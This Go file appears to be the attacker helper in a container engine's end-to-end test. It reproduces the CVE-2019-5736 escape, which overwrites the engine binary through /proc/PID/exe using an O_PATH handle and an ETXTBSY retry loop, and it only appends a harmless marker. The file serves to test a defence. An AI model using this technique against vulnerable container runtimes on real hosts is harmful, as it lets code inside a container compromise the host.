// cve5736 is the attacker of e2e_exec_test.go. It runs inside a container and tries what CVE-2019-5736
// did against runc: to rewrite, through /proc/PID/exe, the binary that an engine process inside the
// container runs from, which would be the host's engine binary if the engine were vulnerable.
//
// It listens on 127.0.0.1:5555. The test makes `engine exec` run a script whose interpreter is an engine
// binary (`#!/proc/self/exe ps`), with ENGINE_HOST pointing here: the process that connects is that
// binary, kept alive while it waits for an answer. The attacker finds it in /proc, holds its exe with
// O_PATH, hangs up, waits for it to exit (a running binary cannot be opened for writing: ETXTBSY), then
// reopens the exe for writing through /proc/self/fd and appends to it (appending leaves an ELF file
// runnable, so a failed defence does not break the rest of the tests). For every attempt it prints
// "<exe>: overwritten" or "<exe>: <error>".
package main

import (
	"errors"
	"fmt"
	"net"
	"os"
	"strconv"
	"syscall"
	"time"

	"golang.org/x/sys/unix"
)

func main() {
	listener, err := net.Listen("tcp", "127.0.0.1:5555")
	if err != nil {
		fmt.Println("listen:", err)
		os.Exit(1)
	}
	fmt.Println("listening")
	for {
		conn, err := listener.Accept()
		if err != nil {
			fmt.Println("accept:", err)
			os.Exit(1)
		}
		fmt.Println(attack(conn))
	}
}

// attack goes after the process on the other end of conn.
func attack(conn net.Conn) string {
	pid, err := otherProcess()
	if err != nil {
		conn.Close()
		return err.Error()
	}
	exe := fmt.Sprintf("/proc/%d/exe", pid)
	link, _ := os.Readlink(exe)
	fd, err := unix.Open(exe, unix.O_PATH|unix.O_CLOEXEC, 0)
	conn.Close() // the process gives up and exits
	if err != nil {
		return fmt.Sprintf("%s: open O_PATH: %v", link, err)
	}
	defer unix.Close(fd)
	f, err := openForWriting("/proc/self/fd/" + strconv.Itoa(fd))
	if err != nil {
		return fmt.Sprintf("%s: open for writing: %v", link, err)
	}
	defer f.Close()
	if _, err := f.Write([]byte("\nPWNED by cve5736\n")); err != nil {
		return fmt.Sprintf("%s: write: %v", link, err)
	}
	return link + ": overwritten"
}

// otherProcess is the one process of the container that is neither the attacker nor its parent.
func otherProcess() (int, error) {
	entries, err := os.ReadDir("/proc")
	if err != nil {
		return 0, err
	}
	for _, entry := range entries {
		pid, err := strconv.Atoi(entry.Name())
		if err == nil && pid != os.Getpid() && pid != 1 {
			return pid, nil
		}
	}
	return 0, errors.New("no other process in the container")
}

// openForWriting retries while the binary is still running (ETXTBSY), for up to five seconds.
func openForWriting(path string) (*os.File, error) {
	deadline := time.Now().Add(5 * time.Second)
	for {
		f, err := os.OpenFile(path, os.O_WRONLY|os.O_APPEND, 0)
		if !errors.Is(err, syscall.ETXTBSY) || time.Now().After(deadline) {
			return f, err
		}
		time.Sleep(time.Millisecond)
	}
}
